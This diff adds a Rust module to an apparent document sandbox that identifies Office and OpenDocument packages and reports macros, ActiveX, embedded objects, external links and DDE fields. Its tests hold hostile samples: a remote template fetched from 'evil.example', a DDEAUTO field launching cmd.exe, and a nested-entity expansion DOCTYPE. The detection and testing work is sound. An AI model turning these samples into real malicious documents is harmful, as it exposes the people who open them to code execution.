@@ -1,0 +1,265 @@
+//! Office documents in ZIP packages (OOXML: DOCX, XLSX, PPTX; OpenDocument): which one it
+//! is, and what the report should say about it (macros, external links, DDE, embedded
+//! objects). Rendering them is not implemented yet; `Unsupported` says so.
+
+use docsandbox_protocol::{FailureKind, Format, Request};
+use quick_xml::events::Event;
+use quick_xml::Reader;
+
+use crate::output::Output;
+use crate::package::{Package, PackageError};
+use crate::report::Report;
+
+/// Which kind of package this is, from the entries it holds.
+pub fn kind(package: &mut Package) -> Option<Format> {
+    if package.has("word/document.xml") {
+        return Some(Format::Docx);
+    }
+    if package.has("xl/workbook.xml") {
+        return Some(Format::Xlsx);
+    }
+    if package.has("ppt/presentation.xml") {
+        return Some(Format::Pptx);
+    }
+    let mimetype = package.read("mimetype").ok()?;
+    match mimetype.trim_ascii() {
+        b"application/vnd.oasis.opendocument.text" => Some(Format::Odt),
+        b"application/vnd.oasis.opendocument.spreadsheet" => Some(Format::Ods),
+        b"application/vnd.oasis.opendocument.presentation" => Some(Format::Odp),
+        _ => None,
+    }
+}
+
+/// Sends the begin message and the report for an Office package, then says rendering is
+/// not available (unless the host only asked for the report).
+pub fn inspect_only(request: &Request<'static>, mut package: Package, format: Format, out: &mut Output) {
+    out.begin(format, None);
+    let mut report = Report::new(request.max_report_bytes);
+    if let Err(e) = findings(&mut package, &mut report) {
+        report.add("inspection-truncated", &describe(&e));
+    }
+    out.report(&report.finish());
+    if request.max_pages > 0 {
+        out.failure(
+            FailureKind::Unsupported,
+            &format!("rendering {} documents is not implemented yet (its report is available)", format.name().to_uppercase()),
+        );
+    }
+}
+
+/// Describes a package error for people.
+pub fn describe(error: &PackageError) -> String {
+    match error {
+        PackageError::Malformed(m) => format!("damaged package: {m}"),
+        PackageError::Budget(m) => format!("package bomb: {m}"),
+    }
+}
+
+/// Records macros, embedded objects, external relationships and DDE.
+fn findings(package: &mut Package, report: &mut Report) -> Result<(), PackageError> {
+    let names = package.names().to_vec();
+    for name in &names {
+        let lower = name.to_ascii_lowercase();
+        if lower.ends_with("vbaproject.bin") {
+            report.add("vba-macros", name);
+        } else if lower.starts_with("xl/macrosheets/") {
+            report.add("excel4-macros", name);
+        } else if lower.starts_with("basic/") || lower.starts_with("scripts/") {
+            report.add("macros", name);
+        } else if lower.contains("/embeddings/") || lower.starts_with("object ") {
+            report.add("embedded-object", name);
+        } else if lower.contains("/activex/") {
+            report.add("activex", name);
+        }
+    }
+    if package.has("[Content_Types].xml") && contains_ignore_case(&package.read("[Content_Types].xml")?, b"macroEnabled") {
+        report.add("macro-enabled", "the content types declare a macro-enabled document");
+    }
+    for name in names.iter().filter(|n| n.ends_with(".rels")) {
+        relationships(&package.read(name)?, report);
+    }
+    for name in names.iter().filter(|n| is_word_part(n)) {
+        word_fields(&package.read(name)?, report);
+    }
+    for name in names.iter().filter(|n| n.starts_with("xl/externalLinks/") && n.ends_with(".xml")) {
+        dde_links(&package.read(name)?, report);
+    }
+    Ok(())
+}
+
+fn is_word_part(name: &str) -> bool {
+    name.starts_with("word/")
+        && name.ends_with(".xml")
+        && ["document", "header", "footer", "footnotes", "endnotes"].iter().any(|p| name[5..].starts_with(p))
+}
+
+fn contains_ignore_case(haystack: &[u8], needle: &[u8]) -> bool {
+    haystack.windows(needle.len()).any(|w| w.eq_ignore_ascii_case(needle))
+}
+
+/// A namespace-less XML reader that never expands entities or reads a DTD: quick-xml
+/// reports a DOCTYPE as an event and leaves `&entity;` references alone.
+fn reader(xml: &[u8]) -> Reader<&[u8]> {
+    let mut reader = Reader::from_reader(xml);
+    reader.config_mut().check_end_names = false;
+    reader
+}
+
+/// Attribute value by local name (prefixes ignored). Only the five predefined entities and
+/// character references are resolved; anything else stays as written.
+fn attr(e: &quick_xml::events::BytesStart<'_>, local: &[u8]) -> Option<String> {
+    let a = e.attributes().flatten().find(|a| a.key.local_name().as_ref() == local)?;
+    Some(a.unescape_value().map(|v| v.into_owned()).unwrap_or_else(|_| String::from_utf8_lossy(&a.value).into_owned()))
+}
+
+/// The text an entity or character reference in content stands for: predefined entities
+/// and character references only; any other `&name;` is kept literally, never expanded.
+fn reference_text(r: &quick_xml::events::BytesRef<'_>) -> String {
+    if let Ok(Some(c)) = r.resolve_char_ref() {
+        return c.to_string();
+    }
+    let name = String::from_utf8_lossy(r);
+    match &*name {
+        "quot" => "\"".into(),
+        "amp" => "&".into(),
+        "lt" => "<".into(),
+        "gt" => ">".into(),
+        "apos" => "'".into(),
+        other => format!("&{other};"),
+    }
+}
+
+/// External targets in a relationships part.
+fn relationships(xml: &[u8], report: &mut Report) {
+    let mut reader = reader(xml);
+    loop {
+        match reader.read_event() {
+            Ok(Event::Start(e) | Event::Empty(e)) if e.local_name().as_ref() == b"Relationship" => {
+                if attr(&e, b"TargetMode").as_deref() != Some("External") {
+                    continue;
+                }
+                let target = attr(&e, b"Target").unwrap_or_default();
+                let kind = attr(&e, b"Type").unwrap_or_default();
+                let kind = match kind.rsplit('/').next().unwrap_or_default() {
+                    "attachedTemplate" => "remote-template",
+                    "hyperlink" => "uri",
+                    "oleObject" => "external-ole-object",
+                    "image" => "external-image",
+                    "frame" | "subDocument" => "external-document",
+                    _ => "external-link",
+                };
+                report.add(kind, &target);
+            }
+            Ok(Event::Eof) | Err(_) => return,
+            Ok(_) => {}
+        }
+    }
+}
+
+/// DDE and DDEAUTO field codes in a Word part (simple fields and complex ones whose
+/// instruction is split across runs).
+fn word_fields(xml: &[u8], report: &mut Report) {
+    let mut reader = reader(xml);
+    let mut instruction: Option<String> = None;
+    let mut in_instr_text = false;
+    let check = |code: &str, report: &mut Report| {
+        let first = code.split_whitespace().next().unwrap_or_default().to_ascii_uppercase();
+        if first == "DDE" || first == "DDEAUTO" {
+            report.add("dde", code.trim());
+        }
+    };
+    loop {
+        match reader.read_event() {
+            Ok(Event::Start(e) | Event::Empty(e)) => match e.local_name().as_ref() {
+                b"fldSimple" => check(&attr(&e, b"instr").unwrap_or_default(), report),
+                b"fldChar" => match attr(&e, b"fldCharType").as_deref() {
+                    Some("begin") => instruction = Some(String::new()),
+                    Some("separate" | "end") => {
+                        if let Some(code) = instruction.take() {
+                            check(&code, report);
+                        }
+                    }
+                    _ => {}
+                },
+                b"instrText" => in_instr_text = true,
+                _ => {}
+            },
+            Ok(Event::Text(t)) if in_instr_text => {
+                if let Some(code) = instruction.as_mut().filter(|c| c.len() < 4096) {
+                    code.push_str(&String::from_utf8_lossy(&t));
+                }
+            }
+            Ok(Event::GeneralRef(r)) if in_instr_text => {
+                if let Some(code) = instruction.as_mut().filter(|c| c.len() < 4096) {
+                    code.push_str(&reference_text(&r));
+                }
+            }
+            Ok(Event::End(e)) if e.local_name().as_ref() == b"instrText" => in_instr_text = false,
+            Ok(Event::Eof) | Err(_) => return,
+            Ok(_) => {}
+        }
+    }
+}
+
+/// DDE links in a spreadsheet's external link parts.
+fn dde_links(xml: &[u8], report: &mut Report) {
+    let mut reader = reader(xml);
+    loop {
+        match reader.read_event() {
+            Ok(Event::Start(e) | Event::Empty(e)) if e.local_name().as_ref() == b"ddeLink" => {
+                let service = attr(&e, b"ddeService").unwrap_or_default();
+                let topic = attr(&e, b"ddeTopic").unwrap_or_default();
+                report.add("dde", &format!("{service}|{topic}"));
+            }
+            Ok(Event::Eof) | Err(_) => return,
+            Ok(_) => {}
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn found(f: impl Fn(&mut Report)) -> Vec<(String, String)> {
+        let mut report = Report::new(1 << 16);
+        f(&mut report);
+        report.finish()
+    }
+
+    #[test]
+    fn external_relationships_are_classified() {
+        let rels = br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
+            <Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>
+            <Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>
+            <Relationship Id="r3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org/" TargetMode="External"/>
+        </Relationships>"#;
+        assert_eq!(
+            found(|r| relationships(rels, r)),
+            [("remote-template".into(), "http://evil.example/t.dotm".into()), ("uri".into(), "https://example.org/".into())]
+        );
+    }
+
+    #[test]
+    fn dde_fields_are_found_even_when_split_across_runs() {
+        let xml = br#"<w:document xmlns:w="w"><w:body><w:p>
+            <w:r><w:fldChar w:fldCharType="begin"/></w:r>
+            <w:r><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe </w:instrText></w:r>
+            <w:r><w:instrText>&quot;/k calc.exe&quot; &custom;</w:instrText></w:r>
+            <w:r><w:fldChar w:fldCharType="separate"/></w:r>
+            <w:fldSimple w:instr=" PAGE "/>
+            <w:fldSimple w:instr="dde excel sheet1"/>
+        </w:p></w:body></w:document>"#;
+        let f = found(|r| word_fields(xml, r));
+        assert_eq!(f.len(), 2, "{f:?}");
+        assert!(f[0].1.starts_with("DDEAUTO") && f[0].1.ends_with(r#""/k calc.exe" &custom;"#), "{f:?}");
+        assert_eq!(f[1].1, "dde excel sheet1");
+    }
+
+    #[test]
+    fn entities_are_never_expanded() {
+        let xml = br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>
+            <Relationships><Relationship Type="x/hyperlink" Target="&b;" TargetMode="External"/></Relationships>"#;
+        assert_eq!(found(|r| relationships(xml, r)), [("uri".into(), "&b;".into())]);
+    }
+}
